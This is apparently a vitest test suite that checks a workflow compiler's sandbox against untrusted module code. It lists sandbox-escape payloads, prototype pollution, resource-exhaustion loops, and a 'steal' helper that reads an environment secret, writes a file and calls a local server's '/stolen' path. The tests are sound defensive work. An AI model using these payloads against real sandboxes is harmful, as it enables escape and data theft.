import { existsSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { type Compilation, compile } from "@heed/compiler";
import type { Diagnostic } from "@heed/plan";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createContext } from "../../../src/context.ts";
import { load } from "../../../src/phases/1-load/load.ts";

const root = import.meta.dirname;
const file = join(root, "untrusted.workflow.ts");
const written = join(root, "written-by-an-attack");
const parsed = new Map();

const secret = "a value of this process's environment";
let origin = "";
const requests: string[] = [];
const server = createServer((request, response) => {
  requests.push(request.url ?? "");
  response.end();
});

beforeAll(async () => {
  process.env.HEED_ATTACKED = secret;
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  origin = typeof address === "object" && address !== null ? `http://127.0.0.1:${address.port}` : "";
});
afterAll(() => {
  delete process.env.HEED_ATTACKED;
  server.close();
});

/** What every attack has at hand: where to write, where to call, and a workflow that would carry a secret out in its plan. */
const head = (): string => `
import { connect, dataset, tickets } from "@heed/dsl";
import { z } from "zod";
declare const process: any, require: any, fetch: any, __heed_link: any, __heed_at: any, __heed_run: any, console: any, SharedArrayBuffer: any, WebAssembly: any, Temporal: any;
const steal = (host: any): string => {
  const fs = host.getBuiltinModule?.("fs") ?? host.mainModule?.require("fs");
  fs?.writeFileSync(${JSON.stringify(written)}, "");
  host.getBuiltinModule?.("http").get("${origin}/stolen");
  return String(host.env.HEED_ATTACKED);
};
const any = (value: unknown): any => value;
const data = dataset("reviews", { key: "id", fields: { id: z.string(), n: z.number() } });
let stolen: any = "nothing";
`;
const tail = `
export default data.workflow("w", { when: (r) => r.n > 1, do: () => { tickets.create({ name: "got " + stolen }); } });
`;

const filesOf = (source: string) => ({
  root,
  workflows: [file],
  overlay: new Map([[file, head() + source + tail]]),
  parsed,
});

/** What is reported when the modules are evaluated. */
async function attacked(
  source: string,
  limits?: { readonly timeMs?: number; readonly memoryMb?: number },
): Promise<readonly Diagnostic[]> {
  const context = createContext(root);
  const loaded = await load({ ...filesOf(source), limits }, context);
  expect(loaded?.shape === undefined).toBe(true);
  expectNothingGotOut();
  return context.diagnostics;
}

/** The lines of the source that carry the mark, counted as in the file. */
function markedLine(source: string): number {
  const lines = (head() + source + tail).split("\n");
  return lines.findIndex((line) => line.includes("// here")) + 1;
}

function expectNothingGotOut(): void {
  expect(existsSync(written)).toBe(false);
  expect(requests).toEqual([]);
}

async function compiled(source: string): Promise<Compilation> {
  const compilation = await compile(filesOf(source));
  expectNothingGotOut();
  expect(JSON.stringify(compilation)).not.toContain(secret);
  return compilation;
}

type Attack = readonly [name: string, source: string, code: string];

const gone = "HD3003";
const failed = "HD3004";
const tooLarge = "HD0005";

const thatFail: readonly Attack[] = [
  [
    "the constructor of a constructor",
    `stolen = steal(any({}).constructor.constructor("return process")()); // here`,
    failed,
  ],
  [
    "the constructor of the global object",
    `stolen = steal(any(globalThis).constructor.constructor("return process")()); // here`,
    failed,
  ],
  ["the constructor of an asynchronous function", `any(async () => {}).constructor("return process"); // here`, failed],
  ["the constructor of a generator", `any(function* () {}).constructor("return process"); // here`, failed],
  ["eval", `stolen = steal((0, eval)("process")); // here`, failed],
  ["code made of a text", `stolen = steal(new Function("return process")()); // here`, failed],
  ["what links functions", `stolen = steal(__heed_link.constructor("return process")()); // here`, failed],
  ["what marks statements", `stolen = steal(__heed_at.constructor("return process")()); // here`, failed],
  ["what runs the modules", `stolen = steal(__heed_run.constructor("return process")()); // here`, failed],
  ["a text given to a timer", `setTimeout("process", 0); // here`, gone],
  ["the environment", `stolen = process.env.HEED_ATTACKED; // here`, gone],
  ["the list of the environment", `stolen = "HEED_ATTACKED" in process.env; // here`, gone],
  ["Node's modules by the process", `stolen = process.getBuiltinModule("fs"); // here`, failed],
  ["Node's bindings", `stolen = process.binding("fs"); // here`, failed],
  ["a required module", `stolen = require("node:fs").readFileSync("/etc/hostname", "utf8"); // here`, "HD3005"],
  ["a request", `fetch("http://127.0.0.1/"); // here`, gone],
  [
    "a name that is only known when it runs",
    `const name: string = "node:" + "fs"; void import(name); // here`,
    "HD3005",
  ],
  ["the file system", `void import("node:fs"); // here`, "HD3005"],
  ["the clock", `stolen = Date.now(); // here`, gone],
  ["the clock by a date's constructor", `stolen = new (any(new Date(0)).constructor)().getTime(); // here`, gone],
  ["a new clock", `stolen = Temporal.Now.instant(); // here`, failed],
  ["a precise clock", `stolen = performance.now(); // here`, gone],
  ["chance", `stolen = Math.random(); // here`, gone],
  ["chance of another kind", `stolen = any(globalThis).crypto.randomUUID(); // here`, gone],
  ["the languages of the machine", `stolen = new Intl.DateTimeFormat().resolvedOptions().timeZone; // here`, gone],
  ["WebAssembly", `stolen = new WebAssembly.Memory({ initial: 1 }); // here`, failed],
  ["memory that is shared", `stolen = new SharedArrayBuffer(8); // here`, failed],
  ["waiting", `Atomics.wait(new Int32Array(1), 0, 0); // here`, failed],
  ["memory outside of the heap", `stolen = new Uint8Array(2 ** 33); // here`, failed],
  ["a stack without end", `const f = (n: number): number => 1 + f(n + 1); stolen = f(0); // here`, failed],
  ["a field of every object", `any(Object.prototype).polluted = 1; // here`, failed],
  ["a method of every list", `Array.prototype.map = any(() => []); // here`, failed],
  ["a method of every text", `any(String.prototype).includes = () => true; // here`, failed],
  ["what every object inherits", `any(Object.prototype).toString = () => "mine"; // here`, failed],
  ["the prototype of every object", `Object.setPrototypeOf(Object.prototype, { mine: 1 }); // here`, failed],
  ["JSON", `JSON.stringify = any(() => '{"kind":"made"}'); // here`, failed],
  [
    "how stacks are written",
    `Error.prepareStackTrace = any((_: unknown, frames: any) => steal(frames)); // here`,
    failed,
  ],
  [
    "an error that is a trap",
    `throw new Proxy({}, { get: (_, name) => steal(any(name).constructor.constructor("return process")()) }); // here`,
    failed,
  ],
  [
    "a text for an error that is none",
    `throw { message: { [Symbol.toPrimitive]: () => { throw 1; } }, stack: 1 }; // here`,
    failed,
  ],
];

describe("what evaluation may not do fails, with its place", () => {
  test.for(thatFail)("%s", async ([, source, code]) => {
    const diagnostics = await attacked(source);
    expect(diagnostics.map((each) => [each.code, each.span?.line])).toEqual([[code, markedLine(source)]]);
  });
});

const endless = "for (;;) { /* on and on */ }";

const withoutEnd: readonly Attack[] = [
  ["a loop", `for (;;) { stolen = "never"; } // here`, tooLarge],
  [
    "a getter that the compiler reads",
    `const trap = { get field(): string { ${endless} } };\nexport const w2 = data.workflow("w2", { when: (r) => r.n > 1, do: () => { tickets.create({ name: trap.field }); } }); // here`,
    tooLarge,
  ],
  [
    "a list of names that the compiler reads",
    `const trap: any = new Proxy({}, { ownKeys: () => { ${endless} } });\nexport const w2 = data.workflow("w2", { when: (r) => trap.x, do: () => {} }); // here`,
    tooLarge,
  ],
  [
    "settings that are turned into JSON",
    `const mail = connect.email("m", any({ toJSON: () => { ${endless} } }));\nexport const w2 = data.workflow("w2", { when: (r) => r.n > 1, do: () => { mail.send({ to: "a@example.com", subject: "a", text: "b" }); } }); // here`,
    tooLarge,
  ],
];

describe("what has no end is ended, with its place", () => {
  test.for(withoutEnd)("%s", async ([, source, code]) => {
    const diagnostics = await attacked(source, { timeMs: 1_500 });
    expect(diagnostics.map((each) => [each.code, each.span?.line])).toEqual([[code, markedLine(source)]]);
    expect(diagnostics[0]?.message).toContain("time");
  });
});

const memory: readonly Attack[] = [
  ["a list that grows", `const list: unknown[] = []; for (;;) list.push([list.length]); // here`, tooLarge],
  [
    "a text that doubles",
    `let text = "x"; const texts = new Set<string>(); for (;;) { text = text.length > 1e6 ? "x" : text + text; texts.add(text + texts.size); } // here`,
    tooLarge,
  ],
  ["a list of one size", `stolen = new Array(2 ** 26).fill({}).map((_, at) => [at]); // here`, tooLarge],
];

describe("what takes all memory is ended, with its place", () => {
  test.for(memory)("%s", async ([, source, code]) => {
    // With time enough, so that on a busy machine, too, it is the memory that ends it.
    const diagnostics = await attacked(source, { memoryMb: 64, timeMs: 50_000 });
    expect(diagnostics.map((each) => [each.code, each.span?.line])).toEqual([[code, markedLine(source)]]);
    expect(diagnostics[0]?.message).toContain("memory");
  });
});

const ofNoUse: readonly (readonly [name: string, source: string])[] = [
  [
    "work that goes on after the modules",
    `const again = (): Promise<void> => Promise.resolve().then(again); void again();`,
  ],
  ["a module that is asked for and not waited for", `void Promise.resolve().then(() => steal(process));`],
  [
    "globals of the user's own",
    `any(globalThis).JSON = { stringify: () => "mine" }; any(globalThis).Object = undefined;`,
  ],
  [
    "an object that claims to be a thing of the language",
    `export const fake = { [Symbol.for("heed.kind")]: "workflow", get id() { throw 1; }, get dataset() { throw 1; } };`,
  ],
  ["a workflow behind a getter that fails", `export const trap = { get w() { throw new Error("never"); } };`],
];

describe("what is of no use does no harm", () => {
  test.for(ofNoUse)("%s", async ([, source]) => {
    const { diagnostics } = await compiled(source);
    for (const { code } of diagnostics) expect(code).not.toBe("HD9001");
  });
});

describe("values that no plan should hold are refused where they are read", () => {
  test.for([
    ["a text of a gigabyte", `stolen = "x".repeat(2 ** 29 - 24);`, "a text of more than"],
    ["a table of millions", `stolen = Array.from({ length: 300_000 }, (_, at) => at);`, "a table of more than"],
    ["a list of four thousand million", `stolen = []; stolen.length = 2 ** 32 - 1;`, "a table of more than"],
    ["a list that holds itself", `stolen = []; stolen.push(stolen);`, "contains itself"],
    [
      "an object that cannot be read",
      `stolen = new Proxy({}, { getPrototypeOf: () => { throw 1; } });`,
      "cannot be read",
    ],
  ] as const)("%s", async ([, source, what]) => {
    const { diagnostics } = await compiled(source);
    const found = diagnostics.find(({ code }) => code === "HD3002");
    expect(found?.message).toContain(what);
    expect(found?.span).toBeDefined();
  });
});
